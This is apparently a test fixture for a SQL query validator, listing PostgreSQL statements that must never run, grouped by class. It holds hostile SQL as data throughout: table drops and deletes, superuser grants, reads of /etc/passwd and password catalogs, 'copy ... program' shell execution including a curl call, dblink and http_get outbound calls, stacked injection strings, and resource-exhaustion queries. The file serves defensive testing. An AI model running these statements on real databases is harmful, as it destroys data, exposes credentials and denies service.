-- What must never run, by class. ␊ and ␍ stand for line ends within a statement.
-- class: statement
insert into customers (id, name) values (1, 'x')
insert into customers select * from customers
update orders set total = 0
update orders set total = 0 where id in (select id from orders)
delete from orders
delete from orders where id = 1 returning *
drop table orders
drop table if exists customers cascade
create table x (a int)
create table x as select * from customers
create view v as select * from orders
create index i on orders (total)
alter table orders add column x int
alter table orders rename to o2
truncate table orders
grant all on orders to public
begin
commit
rollback
start transaction
savepoint a
select 1; drop table orders
select * from customers; select * from orders
select 1;; delete from orders
; ; select 1; update orders set total = 1
explain select * from customers
explain analyze delete from orders
explain analyze select * from customers
set x = 1
call f()
select
with x as (delete from orders returning *) select * from x
with x as (insert into customers (id) values (1) returning id) select * from x
with x as (update orders set total = 0 returning id) select * from x
with x as (select 1) delete from orders
with x as (select 1) insert into customers (id) select 1 from x
with x as (select id from orders) update orders set total = 0
select * into backup from customers
select name into x from customers
Here is your query: select 1
```sql\nselect 1\n```
drop/**/table/**/orders
DrOp TaBlE orders
select * from customers where id = ?
select * from missing_table
select missing_column from customers
select c.missing from customers c
select x.name from customers c
select * from customers c join orders o on o.customer_id = c.idd
select name from customers where nme = 'x'
select id from customers join orders on orders.customer_id = customers.id
select name from customers where total > 5
select * from customers where id = (select id, name from customers)
select id from customers union select id, name from customers
select nosuchfunction(name) from customers
select upper(name, 1, 2) from customers
select count() over () from nowhere
select sum(sum(total)) from orders
select name from customers where count(*) > 1
select name from customers where row_number() over (order by id) = 1
select row_number() from customers
select lower(name) over () from customers
select * from customers order by 99
select * from other_db.other_schema.customers
select * from nope.customers
select name, from customers
select name customers where
select from where
select * from customers limit limit 5
select 'unclosed from customers
select (1 from customers
select 1) from customers
select * from customers where name = 'a' or
select 1 union
select * from (select * from customers
with x as (select 1 select * from x
select * from customers group by
select top 5 * from customers
select :name from customers
select * from customers where name = %s
select {{ name }} from customers
select * from $table
copy customers to '/tmp/x'
copy (select 1) to program 'id'
copy customers from program 'curl x'
do $$ begin perform pg_sleep(10); end $$
listen x
notify x, 'y'
lock table orders
vacuum full orders
analyze orders
reindex table orders
cluster orders
refresh materialized view v
security label on table orders is 'x'
comment on table orders is 'x'
create function f() returns int language sql as 'select 1'
create extension dblink
create role x superuser
alter role postgres superuser
alter system set shared_preload_libraries = 'x'
set role postgres
set session authorization postgres
reset all
show all
discard all
deallocate all
prepare p as delete from orders
execute p
declare c cursor for select 1
fetch all from c
close c
move 1 in c
load 'x'
import foreign schema x from server y into z
merge into orders o using customers c on o.customer_id = c.id when matched then delete
select * from customers for update
select * from customers for share
select * from customers for no key update
select * from customers for key share
select * from customers for update skip locked
select * from (select * from customers for update) x
with x as (select * from customers for update) select * from x
select * from pg_user
select * from pg_catalog.pg_class
select * from information_schema.tables
select * from pg_shadow
select usename from pg_stat_activity
select rolpassword from pg_authid
select * from pg_settings
select * from customers, pg_class
select * from customers where name in (select relname from pg_class)
select * from pg_ls_dir('/')
select * from pg_read_file('/etc/passwd')
select * from dblink('x', 'select 1') as t(a int)
select * from crosstab('select 1') as t(a int)
select * from ts_stat('select 1')
select * from generate_series(1, 1000000000)
select * from generate_series(1, 100000) a, generate_series(1, 100000) b
select * from generate_series('2000-01-01'::timestamp, '2030-01-01'::timestamp, '1 second')
select * from generate_series(1, 10 ^ 9)
select * from generate_series(1, 1000 * 1000 * 1000)
select * from generate_series(1, (select 1000000000))
select * from rows from (pg_sleep(1)) x
with recursive n as (select 1 as i union all select i + 1 from n) select * from n
with recursive n as (select 1 as i union all select i + 1 from n where i < 1000000000) select count(*) from n
with recursive n as (select 1 as i union all select i + 1 from n join customers on true) select * from n
with recursive n as (select 1 as i union all select i + 1 from n where 1 = 1) select * from n
with recursive n as (select 1 as i union all select i + 1 from n, customers) select * from n
select 'x'::text.evil
select cast('x' as int.evil)
select name from customers where ordered_at > now() - 30
select now() - 30
select shipped_on / 2 from orders
select 1totl
select * from xmltable('/a' passing '<a/>' columns b text)
select * from json_populate_record(null::customers, '{}')
select customers::text::xml from customers
select U&"pg\005fsleep"(1)
select U&'\0061' from customers
select E'a\'; drop table orders; --'; drop table orders
select 1 /*+ Set(statement_timeout 0) */
/*+ Set(x 1) */ select 1
select $tag$ unclosed
select name from customers where name = "Ann"
select "NAME" from customers
select "Name" from "Customers"
select Year from Targets
select * from Targets
select name from customers group by country
select name, count(*) from customers
select country, max(name), city from customers group by country
select sum(name) from customers
select name from customers where id = name
select round(weight_kg, 2) from products
select name from customers where country = 5
select id from orders where status > 10
select * from (select 1)
select * from customers customers, orders customers
select distinct name from customers order by id
select name from customers order by nme
select a.id from customers a join orders b on a.id = c.id
select * from customers, lateral (select * from nothere n where n.id = customers.id) x
select lower(id) from customers
select extract(year from name) from customers
select ctid, xmin from customers
select tableoid from customers
select nvl(name, 'x') from customers
select ifnull(name, 'x') from customers
select group_concat(name) from customers
select year(ordered_at) from orders
select strftime('%Y', ordered_at) from orders
select date_format(ordered_at, '%Y') from orders
select datediff(shipped_on, shipped_on) from orders
select name from customers limit 5, 10
select `name` from customers
select [name] from customers
select * from customers where name = 'x' collate evil.c
-- class: function
select pg_sleep(10)
select count(*) from orders group by status having max(case when pg_sleep(10) is null then 1 else 0 end) = 1
select name from customers order by pg_sleep_for('1 minute')
select case when 1 = 0 then pg_sleep_for('1 minute') else pg_sleep_for('1 minute') end
select * from customers c join orders o on o.customer_id = c.id and pg_sleep_until('tomorrow') is not null
values (pg_sleep_until('tomorrow'))
select * from (select pg_read_file('/etc/passwd') as v) t
select name from customers where pg_read_file('/etc/passwd') is not null
select pg_read_binary_file('/etc/passwd')
select count(*) from orders group by status having max(case when pg_read_binary_file('/etc/passwd') is null then 1 else 0 end) = 1
select name from customers order by pg_ls_dir('/')
select case when 1 = 0 then pg_ls_dir('/') else pg_ls_dir('/') end
select * from customers c join orders o on o.customer_id = c.id and pg_stat_file('/etc/passwd') is not null
values (pg_stat_file('/etc/passwd'))
select * from (select lo_import('/etc/passwd') as v) t
select name from customers where lo_import('/etc/passwd') is not null
select lo_export(1, '/tmp/x')
select count(*) from orders group by status having max(case when lo_export(1, '/tmp/x') is null then 1 else 0 end) = 1
select name from customers order by lo_unlink(1)
select case when 1 = 0 then lo_unlink(1) else lo_unlink(1) end
select * from customers c join orders o on o.customer_id = c.id and lo_create(0) is not null
values (lo_create(0))
select * from (select lo_get(1) as v) t
select name from customers where lo_get(1) is not null
select lo_from_bytea(0, 'x')
select count(*) from orders group by status having max(case when lo_from_bytea(0, 'x') is null then 1 else 0 end) = 1
select name from customers order by nextval('s')
select case when 1 = 0 then nextval('s') else nextval('s') end
select * from customers c join orders o on o.customer_id = c.id and setval('s', 1) is not null
values (setval('s', 1))
select * from (select currval('s') as v) t
select name from customers where currval('s') is not null
select lastval()
select count(*) from orders group by status having max(case when lastval() is null then 1 else 0 end) = 1
select name from customers order by set_config('statement_timeout', '0', false)
select case when 1 = 0 then set_config('statement_timeout', '0', false) else set_config('statement_timeout', '0', false) end
select * from customers c join orders o on o.customer_id = c.id and current_setting('data_directory') is not null
values (current_setting('data_directory'))
select * from (select query_to_xml('delete from orders', true, true, '') as v) t
select name from customers where query_to_xml('delete from orders', true, true, '') is not null
select query_to_xmlschema('select 1', true, true, '')
select count(*) from orders group by status having max(case when query_to_xmlschema('select 1', true, true, '') is null then 1 else 0 end) = 1
select name from customers order by query_to_xml_and_xmlschema('select 1', true, true, '')
select case when 1 = 0 then query_to_xml_and_xmlschema('select 1', true, true, '') else query_to_xml_and_xmlschema('select 1', true, true, '') end
select * from customers c join orders o on o.customer_id = c.id and table_to_xml('customers', true, true, '') is not null
values (table_to_xml('customers', true, true, ''))
select * from (select schema_to_xml('public', true, true, '') as v) t
select name from customers where schema_to_xml('public', true, true, '') is not null
select database_to_xml(true, true, '')
select count(*) from orders group by status having max(case when database_to_xml(true, true, '') is null then 1 else 0 end) = 1
select name from customers order by cursor_to_xml('c', 1, true, true, '')
select case when 1 = 0 then cursor_to_xml('c', 1, true, true, '') else cursor_to_xml('c', 1, true, true, '') end
select * from customers c join orders o on o.customer_id = c.id and dblink('host=x', 'select 1') is not null
values (dblink('host=x', 'select 1'))
select * from (select dblink_exec('drop table orders') as v) t
select name from customers where dblink_exec('drop table orders') is not null
select dblink_connect('x')
select count(*) from orders group by status having max(case when dblink_connect('x') is null then 1 else 0 end) = 1
select name from customers order by ts_stat('select 1')
select case when 1 = 0 then ts_stat('select 1') else ts_stat('select 1') end
select * from customers c join orders o on o.customer_id = c.id and crosstab('select 1') is not null
values (crosstab('select 1'))
select * from (select connectby('t', 'a', 'b', 'c', 1) as v) t
select name from customers where connectby('t', 'a', 'b', 'c', 1) is not null
select pg_terminate_backend(1)
select count(*) from orders group by status having max(case when pg_terminate_backend(1) is null then 1 else 0 end) = 1
select name from customers order by pg_cancel_backend(1)
select case when 1 = 0 then pg_cancel_backend(1) else pg_cancel_backend(1) end
select * from customers c join orders o on o.customer_id = c.id and pg_reload_conf() is not null
values (pg_reload_conf())
select * from (select pg_rotate_logfile() as v) t
select name from customers where pg_rotate_logfile() is not null
select pg_switch_wal()
select count(*) from orders group by status having max(case when pg_switch_wal() is null then 1 else 0 end) = 1
select name from customers order by pg_create_restore_point('x')
select case when 1 = 0 then pg_create_restore_point('x') else pg_create_restore_point('x') end
select * from customers c join orders o on o.customer_id = c.id and pg_advisory_lock(1) is not null
values (pg_advisory_lock(1))
select * from (select pg_try_advisory_lock(1) as v) t
select name from customers where pg_try_advisory_lock(1) is not null
select pg_advisory_xact_lock(1)
select count(*) from orders group by status having max(case when pg_advisory_xact_lock(1) is null then 1 else 0 end) = 1
select name from customers order by pg_notify('c', 'x')
select case when 1 = 0 then pg_notify('c', 'x') else pg_notify('c', 'x') end
select * from customers c join orders o on o.customer_id = c.id and pg_export_snapshot() is not null
values (pg_export_snapshot())
select * from (select pg_stat_reset() as v) t
select name from customers where pg_stat_reset() is not null
select pg_logical_emit_message(true, 'a', 'b')
select count(*) from orders group by status having max(case when pg_logical_emit_message(true, 'a', 'b') is null then 1 else 0 end) = 1
select name from customers order by pg_current_logfile()
select case when 1 = 0 then pg_current_logfile() else pg_current_logfile() end
select * from customers c join orders o on o.customer_id = c.id and pg_backend_pid() is not null
values (pg_backend_pid())
select * from (select version() as v) t
select name from customers where version() is not null
select current_user
select count(*) from orders group by status having max(case when current_user is null then 1 else 0 end) = 1
select name from customers order by session_user
select case when 1 = 0 then session_user else session_user end
select * from customers c join orders o on o.customer_id = c.id and user is not null
values (user)
select * from (select current_database() as v) t
select name from customers where current_database() is not null
select current_schemas(true)
select count(*) from orders group by status having max(case when current_schemas(true) is null then 1 else 0 end) = 1
select name from customers order by inet_server_addr()
select case when 1 = 0 then inet_server_addr() else inet_server_addr() end
select * from customers c join orders o on o.customer_id = c.id and txid_current() is not null
values (txid_current())
select * from (select pg_is_in_recovery() as v) t
select name from customers where pg_is_in_recovery() is not null
select pg_relation_size('customers')
select count(*) from orders group by status having max(case when pg_relation_size('customers') is null then 1 else 0 end) = 1
select name from customers order by pg_get_viewdef('v')
select case when 1 = 0 then pg_get_viewdef('v') else pg_get_viewdef('v') end
select * from customers c join orders o on o.customer_id = c.id and has_table_privilege('customers', 'select') is not null
values (has_table_privilege('customers', 'select'))
select * from (select xpath('//a', '<a/>') as v) t
select name from customers where xpath('//a', '<a/>') is not null
select xmlparse(document '<a/>')
select count(*) from orders group by status having max(case when xmlparse(document '<a/>') is null then 1 else 0 end) = 1
select name from customers order by to_regclass('customers')
select case when 1 = 0 then to_regclass('customers') else to_regclass('customers') end
select * from customers c join orders o on o.customer_id = c.id and format_type(1, 1) is not null
values (format_type(1, 1))
select * from (select array_fill(1, array[100000000]) as v) t
select name from customers where array_fill(1, array[100000000]) is not null
select repeat('x', 1000000000)
select count(*) from orders group by status having max(case when repeat('x', 1000000000) is null then 1 else 0 end) = 1
select name from customers order by repeat(repeat('x', 9999), 9999)
select case when 1 = 0 then repeat(repeat('x', 9999), 9999) else repeat(repeat('x', 9999), 9999) end
select * from customers c join orders o on o.customer_id = c.id and lpad('x', 1000000000) is not null
values (lpad('x', 1000000000))
select * from (select rpad('x', 1000000000, 'yz') as v) t
select name from customers where rpad('x', 1000000000, 'yz') is not null
select format('%1000000000s', 'x')
select count(*) from orders group by status having max(case when format('%1000000000s', 'x') is null then 1 else 0 end) = 1
select name from customers order by generate_series(1, 1000000000)
select case when 1 = 0 then generate_series(1, 1000000000) else generate_series(1, 1000000000) end
select * from customers c join orders o on o.customer_id = c.id and pg_catalog.pg_sleep(1) is not null
values (pg_catalog.pg_sleep(1))
select * from (select "pg_sleep"(1) as v) t
select name from customers where "pg_sleep"(1) is not null
select PG_SLEEP(1)
select count(*) from orders group by status having max(case when PG_SLEEP(1) is null then 1 else 0 end) = 1
select name from customers order by pg_catalog."pg_sleep"(1)
select case when 1 = 0 then pg_catalog."pg_sleep"(1) else pg_catalog."pg_sleep"(1) end
select * from customers c join orders o on o.customer_id = c.id and public.lower('x') is not null
values (public.lower('x'))
select * from (select myschema.f(1) as v) t
select name from customers where myschema.f(1) is not null
select evil(1)
select count(*) from orders group by status having max(case when evil(1) is null then 1 else 0 end) = 1
select name from customers order by regexp_matches('a', 'a{1,200}{1,200}')
select case when 1 = 0 then regexp_matches('a', 'a{1,200}{1,200}') else regexp_matches('a', 'a{1,200}{1,200}') end
select * from customers c join orders o on o.customer_id = c.id and encode(pg_read_binary_file('/etc/passwd'), 'base64') is not null
values (encode(pg_read_binary_file('/etc/passwd'), 'base64'))
select * from (select lower(pg_read_file('/etc/passwd')) as v) t
select name from customers where lower(pg_read_file('/etc/passwd')) is not null
select (pg_stat_file('/etc/passwd')).size
select count(*) from orders group by status having max(case when (pg_stat_file('/etc/passwd')).size is null then 1 else 0 end) = 1
select name from customers order by 'customers'::regclass
select case when 1 = 0 then 'customers'::regclass else 'customers'::regclass end
select * from customers c join orders o on o.customer_id = c.id and 'pg_sleep'::regproc is not null
values ('pg_sleep'::regproc)
select * from (select 1::regprocedure as v) t
select name from customers where 1::regprocedure is not null
select 'x'::unknown_type
select count(*) from orders group by status having max(case when 'x'::unknown_type is null then 1 else 0 end) = 1
select name from customers order by cast('a' as myschema.mytype)
select case when 1 = 0 then cast('a' as myschema.mytype) else cast('a' as myschema.mytype) end
select * from customers c join orders o on o.customer_id = c.id and plpgsql_call_handler() is not null
values (plpgsql_call_handler())
select * from (select pg_config() as v) t
select name from customers where pg_config() is not null
select pg_show_all_settings()
select count(*) from orders group by status having max(case when pg_show_all_settings() is null then 1 else 0 end) = 1
select name from customers order by pg_ls_waldir()
select case when 1 = 0 then pg_ls_waldir() else pg_ls_waldir() end
select * from customers c join orders o on o.customer_id = c.id and pg_hba_file_rules() is not null
values (pg_hba_file_rules())
select * from (select row_security_active('customers') as v) t
select name from customers where row_security_active('customers') is not null
select brin_summarize_new_values('i')
select count(*) from orders group by status having max(case when brin_summarize_new_values('i') is null then 1 else 0 end) = 1
select name from customers order by gin_clean_pending_list('i')
select case when 1 = 0 then gin_clean_pending_list('i') else gin_clean_pending_list('i') end
select * from customers c join orders o on o.customer_id = c.id and pg_promote() is not null
values (pg_promote())
select * from (select pg_drop_replication_slot('x') as v) t
select name from customers where pg_drop_replication_slot('x') is not null
select pg_create_physical_replication_slot('x')
select count(*) from orders group by status having max(case when pg_create_physical_replication_slot('x') is null then 1 else 0 end) = 1
select name from customers order by loread(1, 100)
select case when 1 = 0 then loread(1, 100) else loread(1, 100) end
select * from customers c join orders o on o.customer_id = c.id and lowrite(1, 'x') is not null
values (lowrite(1, 'x'))
select * from (select uuid_generate_v4() as v) t
select name from customers where uuid_generate_v4() is not null
select gen_random_bytes(1000000000)
select count(*) from orders group by status having max(case when gen_random_bytes(1000000000) is null then 1 else 0 end) = 1
select name from customers order by pgp_sym_encrypt('a', 'b')
select case when 1 = 0 then pgp_sym_encrypt('a', 'b') else pgp_sym_encrypt('a', 'b') end
select * from customers c join orders o on o.customer_id = c.id and http_get('http://x') is not null
values (http_get('http://x'))
select * from (select $1 as v) t
select name from customers where $1 is not null
select pg_input_is_valid('a', 'b')
select count(*) from orders group by status having max(case when pg_input_is_valid('a', 'b') is null then 1 else 0 end) = 1
select name from customers order by pg_collation_for('a')
select case when 1 = 0 then pg_collation_for('a') else pg_collation_for('a') end
select * from customers c join orders o on o.customer_id = c.id and amvalidate(1) is not null
values (amvalidate(1))
select * from (select pg_typeof(1)::regclass as v) t
select name from customers where pg_typeof(1)::regclass is not null
select 1 operator(public.+) 1
select count(*) from orders group by status having max(case when 1 operator(public.+) 1 is null then 1 else 0 end) = 1
select name from customers order by 1 @#@ 1
select case when 1 = 0 then 1 @#@ 1 else 1 @#@ 1 end
-- class: size
select strpos(repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000), repeat('a', 9999) || 'b')
select count(*) from customers where strpos(repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000), repeat('a', 9999) || 'b') > 0
select replace(repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000), repeat('a', 9999) || 'b', '')
select length(replace(replace(replace(x.t, 'a', 'bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb'), 'b', 'cccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccccc'), 'c', 'dddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddddd')) from (select repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000) as t) x
select strpos(x.hay, x.needle) from (select repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000) as hay, repeat('a', 9999) || 'b' as needle) x
with x as (select repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000) as hay) select strpos(hay, hay || 'b') from x
select 1 from customers where repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000) like '%' || repeat('a', 9999) || 'b'
select case when id > 0 then strpos(repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000), repeat('a', 9999) || 'b') end from customers
select coalesce(strpos(upper(repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000)), lower(repeat('a', 9999) || 'b')), 0)
select max(strpos(t, t)) from (select repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000) as t union all select name from customers) x
select strpos(string_agg('a', ''), name) from customers group by name
select strpos(h, n) from (select string_agg('a', '') as h from orders) x, (select string_agg('a', '') as n from orders) y
select position(repeat('a', 9999) || 'b' in repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000))
select split_part(repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000), repeat('a', 9999) || 'b', 2)
select translate(repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000), repeat('a', 9999) || 'b', '')
select btrim(repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000), repeat('a', 9999) || 'b')
select trim(repeat('a', 9999) || 'b' from repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000))
select string_to_array(repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000), repeat('a', 9999) || 'b')
select strpos(1e131071::text, 1e65000::text)
select strpos(('1e131071'::numeric)::text, ('1e65000'::numeric)::text)
select strpos((10::numeric ^ 130000)::text, (10::numeric ^ 65000)::text)
select a @> b from (select array_agg(id) as a from orders) x, (select array_agg(id) as b from orders) y
select array_agg(a.id) && array_agg(a.customer_id) from orders a
select jsonb_agg(id) @> jsonb_agg(customer_id) from orders
select format('%s%s%s', repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000), repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000), repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000)) like format('%s%s', repeat('a', 9999) || 'b', repeat('a', 9999) || 'b')
select string_to_array(repeat('a,', 5000), ',') @> string_to_array(repeat('b,', 5000) || repeat('c,', 5000), ',')
select * from unnest(array[repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000)]) as t(x) where strpos(t.x, repeat('a', 9999) || 'b') > 0
select * from (values (repeat('a', 10000) || repeat('a', 10000) || repeat('a', 10000), repeat('a', 9999) || 'b')) v(h, n) where strpos(v.h, v.n) > 0
with recursive n(i) as (select 1 union all (select i + 1 from n)) select * from n
with recursive n(i) as (select 1 union all (select i + 1 from n where i > 0 union all select 2 where 1 = 0)) select * from n
with recursive n(i) as (select 1 union all select i + 1 from n where 1 = 1) select * from n
with recursive n(i) as (select 1 union all select i + 1 from n where i = i) select * from n
with recursive n(i) as (select 1 union all select i + 1 from n where i > 0) select * from n
with recursive n(i) as (select 1 union all select i + 1 from n where i < 10 or 1 = 1) select * from n
with recursive n(i) as (select 1 union all select i + 1 from n where i is not null) select * from n
with recursive n(i) as (select 1 union all select i + 1 from n where i <> 0) select * from n
with recursive n(i) as (select 1 union all select i from n where i < 10) select * from n
with recursive n(i) as (select 1 union all select i - 1 from n where i < 10) select * from n
with recursive n(i) as (select 1 union all select i + 0 from n where i < 10) select * from n
with recursive n(i) as (select 1 union all select 1 from n where i < 10) select * from n
with recursive n(i) as (select 1 union all select * from n where i < 10) select * from n
with recursive n(i, j) as (select 1, 1 union all select i + 1, j from n where j < 10) select * from n
with recursive n(i, j) as (select 1, 1 union all select i + 1, j + 1 from n where i < j + 10) select * from n
with recursive n(i) as (select 1 union all select i + 1 from n where i + 1 > i) select * from n
with recursive n(i) as (select 1 union all select abs(i) from n where i < 10) select * from n
with recursive n(i) as (select 1 union all select i + 1 from n where exists (select 1)) select * from n
with recursive n(i) as (select 1 union all select i + 1 from n where i < 5000000000) select count(*) from n
with recursive n(i) as (select 1 union all select n.i + 1 from n join customers c on c.id = c.id) select * from n
with recursive n(i) as (select 1 union all select n.i from n join customers c on c.id = n.i) select * from n
with recursive n(i) as (select 1 union select i + 1 from n where not i = 0) select * from n
with recursive s(t, i) as (select 'a', 1 union all select t || t, i + 1 from s where i < 30) select * from s
with recursive s(t, i) as (select 'a', 1 union all select replace(t, 'a', 'aa'), i + 1 from s where i < 30) select * from s
select count(*) from orders a, orders b, orders c
select count(*) from orders a cross join customers b cross join products c
select count(*) from orders a, customers b, products c where a.id = a.id
select count(*) from orders a join customers b on 1 = 1 join products c on 1 = 1
select a.id from orders a, customers b, products c where a.id <> b.id and b.id <> c.id
select a.id from orders a, customers b, products c where a.customer_id = b.id or 1 = 1
select count(*) from (select a.id from orders a, orders b) x, (select c.id from orders c, orders d) y
select max(a.id) from orders a, orders b, orders c, orders d where a.total > 5 and b.total > 5
with x as (select a.id from orders a, customers b), y as (select a.id from orders a, products b) select count(*) from x, y
-- class: cap
select 1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1+1
select ((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))))
select not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not not true
select 1 where 1 in (1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1,1